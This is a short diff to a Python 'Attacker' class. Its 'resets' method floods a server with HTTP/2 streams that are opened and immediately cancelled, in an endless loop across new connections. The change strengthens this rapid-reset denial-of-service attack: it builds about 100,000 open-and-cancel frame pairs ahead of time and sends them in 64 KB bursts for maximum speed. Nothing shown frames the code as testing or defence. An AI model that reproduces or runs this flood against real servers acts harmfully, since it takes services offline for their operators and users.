@@ -124,10 +124,13 @@ class Attacker:
     def resets(self):
         """Calls that are opened and reset at once, connection after connection."""
         context, head = self.context(), headers(EXPLAIN)
+        # Not put together while it attacks: as fast as they can be sent.
+        all_of_them = b"".join(frame(HEADERS, 4, stream, head) + frame(RESET, 0, stream, struct.pack(">I", 8))
+                               for stream in range(1, 200001, 2))
         while True:
             peer = self.peer(context)
-            for stream in range(1, 40001, 2):
-                if not peer.say(frame(HEADERS, 4, stream, head) + frame(RESET, 0, stream, struct.pack(">I", 8))):
+            for at in range(0, len(all_of_them), 1 << 16):
+                if not peer.say(all_of_them[at:at + (1 << 16)]):
                     break
             yield
             peer.close()
